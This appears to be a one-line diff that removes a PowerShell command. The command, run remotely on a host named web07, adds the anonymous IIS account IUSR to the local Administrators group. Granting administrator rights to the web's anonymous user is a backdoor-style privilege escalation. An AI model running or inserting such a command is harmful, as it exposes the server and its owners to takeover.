@@ -1,1 +1,0 @@
-Invoke-Command -ComputerName web07 -ScriptBlock { net localgroup Administrators IUSR /add }
